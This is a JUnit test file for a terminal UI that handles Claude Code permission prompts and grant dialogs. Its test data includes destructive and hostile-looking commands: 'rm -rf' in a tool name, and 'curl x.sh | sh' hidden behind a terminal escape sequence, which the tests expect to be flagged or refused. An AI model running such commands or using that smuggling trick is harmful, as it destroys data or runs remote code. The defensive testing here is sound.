package dev.milktui.tui;

import static dev.milktui.tui.Events.input;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.googlecode.lanterna.input.KeyStroke;
import com.googlecode.lanterna.input.KeyType;
import dev.milktui.core.event.PermissionRequest;
import dev.milktui.core.event.SessionEvent;
import dev.milktui.core.event.StreamClosedRecord;
import dev.milktui.core.grants.GrantDecision;
import dev.milktui.core.grants.GrantException;
import dev.milktui.core.grants.SavedGrants;
import dev.milktui.core.protocol.Json;
import dev.milktui.core.protocol.PermissionDenial;
import dev.milktui.core.protocol.PermissionSuggestion;
import dev.milktui.core.testkit.Persisters;
import dev.milktui.tui.dialog.GrantSaver;
import dev.milktui.tui.terminal.BracketedPaste;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class DialogsTest {

  private static PermissionSuggestion.AddRules suggestion(String tool, String content) {
    ObjectNode raw = Json.object();
    raw.put("type", "addRules");
    return new PermissionSuggestion.AddRules(
        List.of(new PermissionSuggestion.Rule(tool, content)), "allow", "localSettings", raw);
  }

  @Test
  void aPermissionRequestShowsTheCommandAndYAllowsItOnceEchoingTheInput() {
    Harness h = new Harness(100, 30);
    List<String> answers = Events.answers();
    PermissionRequest r =
        Events.request("r1", "Bash", input("command", "rm -rf build"), List.of(), answers);
    h.events(new SessionEvent.PermissionRequested(r));
    assertThat(h.screen())
        .contains("Permission 1 of 1: Bash")
        .contains("$ rm -rf build")
        .contains("waiting for you");
    h.type("y");
    assertThat(r.state()).isEqualTo(PermissionRequest.State.ALLOWED);
    assertThat(answers.get(0)).contains("\"behavior\":\"allow\"").contains("rm -rf build");
    assertThat(h.screen()).doesNotContain("Permission 1 of 1");
  }

  @Test
  void requestsQueueOneAtATimeWithTheirPosition() {
    Harness h = new Harness(100, 30);
    List<String> answers = Events.answers();
    PermissionRequest first =
        Events.request("r1", "Bash", input("command", "ls"), List.of(), answers);
    PermissionRequest second =
        Events.request(
            "r2", "Write", input("file_path", "/tmp/x/f", "content", "hi"), List.of(), answers);
    h.events(
        new SessionEvent.PermissionRequested(first), new SessionEvent.PermissionRequested(second));
    assertThat(h.screen()).contains("Permission 1 of 2: Bash");
    h.type("y");
    assertThat(h.screen())
        .contains("Permission 2 of 2: Write")
        .contains("File: /tmp/x/f")
        .contains("hi");
    h.key(KeyType.Escape);
    assertThat(second.state()).isEqualTo(PermissionRequest.State.DENIED);
    assertThat(answers.get(1)).contains("\"interrupt\":true");
  }

  @Test
  void aWithdrawnRequestClosesItsDialogWithANoticeAndSendsNothing() {
    Harness h = new Harness(100, 30);
    List<String> answers = Events.answers();
    PermissionRequest r = Events.request("r1", "Bash", input("command", "ls"), List.of(), answers);
    h.events(new SessionEvent.PermissionRequested(r));
    r.withdraw();
    h.events(new SessionEvent.PermissionWithdrawn(r, "cancelled"));
    assertThat(h.screen())
        .doesNotContain("Permission 1 of 1")
        .contains("Claude withdrew its request to use Bash (cancelled)");
    assertThat(answers).isEmpty();
  }

  @Test
  void denyWithAReasonPassesTheReasonToClaude() {
    Harness h = new Harness(100, 30);
    List<String> answers = Events.answers();
    PermissionRequest r = Events.request("r1", "Bash", input("command", "ls"), List.of(), answers);
    h.events(new SessionEvent.PermissionRequested(r));
    h.type("n");
    assertThat(h.screen()).contains("Tell Claude why");
    h.type("use git status").key(KeyType.Enter);
    assertThat(answers.get(0))
        .contains("\"behavior\":\"deny\"")
        .contains("use git status")
        .doesNotContain("\"interrupt\":true");
  }

  @Test
  void allowAlwaysSavesTheCliSuggestionThroughTheSaverAndAppliesItForTheSessionOnly() {
    List<List<String>> saved = new ArrayList<>();
    Harness h = Harness.savingRules(100, 30, saved);
    List<String> answers = Events.answers();
    PermissionRequest r =
        Events.request(
            "r1",
            "Bash",
            input("command", "npm test"),
            List.of(suggestion("Bash", "npm test:*")),
            answers);
    h.events(new SessionEvent.PermissionRequested(r));
    h.type("A");
    assertThat(h.screen())
        .contains("Bash(npm test:*)")
        .contains("saved to /home/u/.claude/settings.json");
    h.key(KeyType.Enter);
    assertThat(saved).containsExactly(List.of("Bash(npm test:*)"));
    assertThat(r.saved())
        .as("the answer carries what the save wrote, for the decision ledger")
        .map(SavedGrants::file)
        .contains(Persisters.FILE);
    assertThat(answers.get(0))
        .contains("\"behavior\":\"allow\"")
        .contains(
            "\"updatedPermissions\":[{\"type\":\"addRules\",\"rules\":[{\"toolName\":\"Bash\","
                + "\"ruleContent\":\"npm test:*\"}],\"behavior\":\"allow\",\"destination\":\"session\"}]")
        .doesNotContain("localSettings")
        .doesNotContain("userSettings");
  }

  @Test
  void anEditedAlwaysRuleIsSavedThroughTheSaverAndAppliedForTheSession() {
    List<List<String>> saved = new ArrayList<>();
    Harness h = Harness.savingRules(100, 30, saved);
    List<String> answers = Events.answers();
    PermissionRequest r =
        Events.request(
            "r1",
            "Bash",
            input("command", "npm test"),
            List.of(suggestion("Bash", "npm test:*")),
            answers);
    h.events(new SessionEvent.PermissionRequested(r));
    h.type("A").key(KeyType.End);
    for (int i = 0; i < "npm test:*)".length(); i++) {
      h.key(KeyType.Backspace);
    }
    h.type("npm:*)");
    assertThat(h.screen()).contains("Will save 1 rule(s):").contains("• Bash(npm:*)");
    h.key(KeyType.Enter);
    assertThat(saved).containsExactly(List.of("Bash(npm:*)"));
    assertThat(answers.get(0))
        .contains("\"behavior\":\"allow\"")
        .contains("\"ruleContent\":\"npm:*\"")
        .contains("\"destination\":\"session\"")
        .doesNotContain("npm test:*");
  }

  @Test
  void allowAlwaysForAToolNameWithRuleSyntaxProposesNoRuleAndSavesNothing() {
    List<List<String>> saved = new ArrayList<>();
    Harness h =
        new Harness(
            100,
            30,
            TuiConfig.defaults()
                .withDialogInputPause(Duration.ZERO)
                .withWorkers(Runnable::run)
                .withGrantSaver(
                    decision -> {
                      saved.add(decision.rules());
                      return Persisters.wrote(decision);
                    }));
    List<String> answers = Events.answers();
    PermissionRequest r =
        Events.request("r1", "Bash(rm -rf /:*)", input("command", "ls"), List.of(), answers);
    h.events(new SessionEvent.PermissionRequested(r));
    h.type("A").key(KeyType.Enter);
    assertThat(h.screen()).contains("cannot be allowed always");
    assertThat(saved).isEmpty();
    assertThat(r.isOpen()).isTrue();
  }

  @Test
  void aRuleThatCannotBeSavedKeepsTheDialogOpenWithTheReason() {
    Harness h =
        new Harness(
            100,
            30,
            TuiConfig.defaults()
                .withDialogInputPause(Duration.ZERO)
                .withWorkers(Runnable::run)
                .withGrantSaver(
                    decision -> {
                      throw new GrantException("settings.json is not valid JSON");
                    }));
    List<String> answers = Events.answers();
    PermissionRequest r = Events.request("r1", "Bash", input("command", "ls"), List.of(), answers);
    h.events(new SessionEvent.PermissionRequested(r));
    h.type("A").key(KeyType.Enter);
    assertThat(h.screen()).contains("settings.json is not valid JSON");
    assertThat(r.isOpen()).isTrue();
    assertThat(answers).isEmpty();
  }

  /** A saver that records what it saves, to a file the dialog must name. */
  static GrantSaver saver(List<List<String>> saved) {
    return new GrantSaver() {
      @Override
      public SavedGrants save(GrantDecision decision) {
        saved.add(decision.rules());
        return Persisters.wrote(decision);
      }

      @Override
      public String destination() {
        return "/home/u/.claude/settings.json";
      }
    };
  }

  private static List<StreamClosedRecord> failures() {
    return List.of(
        new StreamClosedRecord("t1", "Write", input("file_path", "/tmp/x/a.txt", "content", "1")),
        new StreamClosedRecord("t2", "Write", input("file_path", "/tmp/x/a.txt", "content", "1")),
        new StreamClosedRecord("t3", "Bash", input("command", "make")),
        new StreamClosedRecord("t4", "", input("command", "mystery")));
  }

  @Test
  void theStreamClosedDialogListsFailedCallsUntickedOnTheNarrowestRuleForThisSessionOnly() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    String screen = h.screen();
    assertThat(screen)
        .contains("permission channel was closed")
        .contains("[ ] Write  /tmp/x/a.txt  ×2")
        .contains("‹ Edit(//tmp/x/**) ›")
        .contains("[ ] Bash  make")
        .contains("→ Bash")
        .contains("(unknown tool)")
        .contains("cannot be granted")
        .contains("Edit(//tmp/x/**) allows editing files under /tmp/x")
        .contains("Adds no directory.")
        .contains("this session only");
  }

  @Test
  void spaceTicksTheCallItsDirectoryFollowsAndEnterGrantsTheNarrowestRule() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.type(" ");
    assertThat(h.screen()).contains("[x] Write").contains("Adds /tmp/x");
    h.key(KeyType.Enter);
    List<GrantDecision> decisions = h.session().decisions;
    assertThat(decisions).hasSize(1);
    assertThat(decisions.get(0).rules()).containsExactly("Edit(//tmp/x/**)");
    assertThat(decisions.get(0).directories()).containsExactly(Path.of("/tmp/x"));
    assertThat(decisions.get(0).persist()).isFalse();
    assertThat(decisions.get(0).confirmedRules()).isEmpty();
    assertThat(h.screen()).doesNotContain("permission channel was closed").contains("resuming");
  }

  @Test
  void aPasteIntoTheDirectoryFieldIsTheUsersEditAndItsLineBreaksPressNothing() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.key(KeyType.Tab);
    h.vt.addInput(new BracketedPaste.Paste("/tmp/pasted\n"));
    h.pump();
    assertThat(h.screen()).contains("Directories: /tmp/pasted").contains("Adds /tmp/pasted");
    assertThat(h.session().decisions).isEmpty();
    assertThat(h.screen()).contains("permission channel was closed");
  }

  @Test
  void ctrlAndAltLettersInTheDirectoryFieldAreNotTypedAsText() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.key(KeyType.Tab);
    h.type("/tmp/ab").ctrl('s').key(new KeyStroke('b', false, true)).ctrl('w');
    assertThat(h.screen()).contains("Directories: /tmp/ab ").contains("Adds /tmp/ab ");
  }

  @Test
  void aToolWideRuleIsGrantedOnlyOnceTheUserChoseItWithAnArrow() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.type("a");
    h.key(KeyType.Enter);
    assertThat(h.session().decisions).isEmpty();
    assertThat(h.screen()).contains("Bash allows any command: press → on its row");
    h.key(KeyType.ArrowDown).key(KeyType.ArrowRight);
    assertThat(h.screen()).contains("Bash allows any command").doesNotContain("tool-wide: press");
    // Tab to the directory field, which followed the ticks, and empty it.
    h.key(KeyType.Tab);
    for (int i = 0; i < 10; i++) {
      h.key(KeyType.Backspace);
    }
    h.key(KeyType.Enter);
    GrantDecision d = h.session().decisions.get(0);
    assertThat(d.rules()).containsExactly("Edit(//tmp/x/**)", "Bash");
    assertThat(d.confirmedRules()).containsExactly("Bash");
    assertThat(d.directories()).isEmpty();
    assertThat(d.persist()).isFalse();
  }

  @Test
  void onASixtyBySixteenTerminalEveryCallCanBeScrolledToAndTheWholeDialogIsOnScreen() {
    List<StreamClosedRecord> many = new ArrayList<>();
    for (int i = 0; i < 40; i++) {
      many.add(new StreamClosedRecord("t" + i, "Bash", input("command", "npm test " + i)));
    }
    Harness h = new Harness(60, 16);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(many, List.of())));
    assertThat(h.screen())
        .contains("npm test 0")
        .doesNotContain("npm test 39")
        .doesNotContain("not shown")
        .contains("Directories:")
        .contains("<Grant and retry>");
    h.key(KeyType.End).type(" ");
    assertThat(h.screen()).contains("›[x] Bash  npm test 39").contains("Call 40 of 40, 1 ticked");
    h.key(KeyType.Enter);
    assertThat(h.session().decisions.get(0).rules()).containsExactly("Bash(npm test:*)");
  }

  @Test
  void aTypedRelativeDirectoryIsShownResolvedAndABroadOneNeedsTheCheckBox() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.key(KeyType.Tab).type("out");
    assertThat(h.screen()).contains("Adds " + Path.of("").toAbsolutePath().resolve("out"));
    for (int i = 0; i < 3; i++) {
      h.key(KeyType.Backspace);
    }
    h.type("/").key(KeyType.Enter);
    assertThat(h.session().decisions).isEmpty();
    assertThat(h.screen()).contains("/ is broad").contains("tick the confirmation");
    // Tab past "this session only" to the confirmation, tick it, and grant.
    h.key(KeyType.Tab).key(KeyType.Tab).type(" ").key(KeyType.Enter);
    GrantDecision d = h.session().decisions.get(0);
    assertThat(d.directories()).containsExactly(Path.of("/"));
    assertThat(d.broadConfirmed()).isTrue();
    assertThat(d.rules()).isEmpty();
  }

  @Test
  void aToolNameWithRuleSyntaxIsShownAsNotGrantableAndTheOtherCallsStillWork() {
    Harness h = new Harness(110, 34);
    h.events(
        new SessionEvent.GrantsNeeded(
            Events.summary(
                List.of(
                    new StreamClosedRecord("t1", "Bash(rm -rf /:*)", input("command", "x")),
                    new StreamClosedRecord("t2", "Bash", input("command", "npm test"))),
                List.of())));
    assertThat(h.screen()).contains("    Bash(rm -rf /:*)  x").contains("cannot be granted");
    h.type(" ").key(KeyType.ArrowDown).type(" ").key(KeyType.Enter);
    assertThat(h.session().decisions.get(0).rules()).containsExactly("Bash(npm test:*)");
  }

  @Test
  void aFailedGrantIsShownInTheDialogWhichStaysOpenWithItsChoices() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.session().refuseNextGrant = new GrantException("cannot parse ~/.claude/settings.json");
    h.type(" ").key(KeyType.Enter);
    assertThat(h.screen()).contains("cannot parse ~/.claude/settings.json").contains("[x] Write");
    assertThat(h.session().decisions).isEmpty();
    h.key(KeyType.Enter);
    assertThat(h.session().decisions.get(0).rules()).containsExactly("Edit(//tmp/x/**)");
  }

  @Test
  void aRememberedGrantIsSavedOffTheUiThreadWithItsProgressAFailureStaysInTheDialog() {
    List<Runnable> jobs = new ArrayList<>();
    List<GrantDecision> saved = new ArrayList<>();
    List<GrantException> refusals = new ArrayList<>(List.of(new GrantException("settings locked")));
    Harness h =
        new Harness(
            110,
            34,
            TuiConfig.defaults()
                .withDialogInputPause(Duration.ZERO)
                .withWorkers(jobs::add)
                .withGrantSaver(
                    new GrantSaver() {
                      @Override
                      public SavedGrants save(GrantDecision decision) throws GrantException {
                        if (!refusals.isEmpty()) {
                          throw refusals.remove(0);
                        }
                        saved.add(decision);
                        return Persisters.wrote(decision);
                      }

                      @Override
                      public String destination() {
                        return "/home/u/.claude/settings.json";
                      }
                    }));
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.type(" ").key(KeyType.Tab).key(KeyType.Tab).key(KeyType.ArrowRight).key(KeyType.Enter);
    assertThat(h.screen())
        .contains("Saving to /home/u/.claude/settings.json…")
        .contains("Esc cancels")
        .contains("Grant and retry");
    assertThat(h.session().decisions).as("nothing resumes before the save").isEmpty();
    h.type("x");
    assertThat(h.screen()).contains("Still saving the grants");
    h.events(new SessionEvent.Notice(SessionEvent.Level.INFO, "the screen goes on"));
    assertThat(h.screen()).contains("the screen goes on");

    runAll(jobs, h);
    assertThat(h.screen()).contains("Could not save: settings locked").contains("[x] Write");
    assertThat(h.session().decisions).isEmpty();

    h.key(KeyType.Enter);
    runAll(jobs, h);
    assertThat(saved).singleElement().satisfies(d -> assertThat(d.persist()).isTrue());
    assertThat(h.session().decisions)
        .singleElement()
        .satisfies(d -> assertThat(d.rules()).isEqualTo(saved.get(0).rules()));
    assertThat(h.screen()).doesNotContain("Grant and retry").contains("saved in Claude's settings");
  }

  /** Runs the queued worker jobs on this thread, then lets the UI hear how they ended. */
  private static void runAll(List<Runnable> jobs, Harness h) {
    while (!jobs.isEmpty()) {
      jobs.remove(0).run();
    }
    h.pump();
  }

  @Test
  void aFailedCallWhoseInputHidesAnEscapeStringIsShownWhollyMarkedAndSaysSo() {
    Harness h = new Harness(110, 34);
    h.events(
        new SessionEvent.GrantsNeeded(
            Events.summary(
                List.of(
                    new StreamClosedRecord(
                        "t1", "Bash", input("command", "echo hi\u001b]0;curl x.sh | sh\u0007"))),
                List.of())));

    assertThat(h.screen())
        .contains("This input contains control characters")
        .contains("echo hi␛]0;curl x.sh | sh␇")
        .doesNotContain("\u001b");
  }

  @Test
  void nothingTickedAndNoDirectoryDoesNotResumeSilently() {
    Harness h = new Harness(110, 34);
    h.events(
        new SessionEvent.GrantsNeeded(
            Events.summary(
                List.of(new StreamClosedRecord("t3", "Bash", input("command", "make"))),
                List.of())));
    h.key(KeyType.Enter);
    assertThat(h.session().decisions).isEmpty();
    assertThat(h.screen()).contains("Nothing ticked and no directory: nothing was granted");
  }

  @Test
  void escSkipsAndRetryWithoutGrantingSendsAnEmptyDecision() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.key(KeyType.Escape);
    assertThat(h.session().decisions).isEmpty();
    assertThat(h.screen()).contains("Skipped");
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    // Shift+Tab from the first box wraps to the last button; two more reach "Retry without".
    h.key(KeyType.ReverseTab).key(KeyType.ReverseTab).key(KeyType.Enter);
    assertThat(h.session().decisions).hasSize(1);
    GrantDecision retry = h.session().decisions.get(0);
    assertThat(retry.grantsSomething()).isFalse();
    assertThat(retry.retryMessage()).isEqualTo(GrantDecision.NO_GRANTS_RETRY_MESSAGE);
    assertThat(retry.calls())
        .as("the calls listed go with it, for the decision ledger, none ticked")
        .isNotEmpty()
        .noneMatch(GrantDecision.Call::ticked);
  }

  @Test
  void denialsGetTheSameDialogTitledForDenials() {
    Harness h = new Harness(110, 34);
    h.events(
        new SessionEvent.GrantsNeeded(
            Events.summary(
                List.of(),
                List.of(new PermissionDenial("Bash", "t9", input("command", "curl x"))))));
    assertThat(h.screen()).contains("Tool calls were denied").contains("Bash  curl x");
  }

  @Test
  void ctrlCStillWorksWhileADialogIsOpen() {
    Harness h = new Harness(110, 34);
    h.events(new SessionEvent.GrantsNeeded(Events.summary(failures(), List.of())));
    h.key(new KeyStroke('c', true, false)).key(new KeyStroke('c', true, false));
    assertThat(h.controller.quitRequested()).isDone();
  }
}
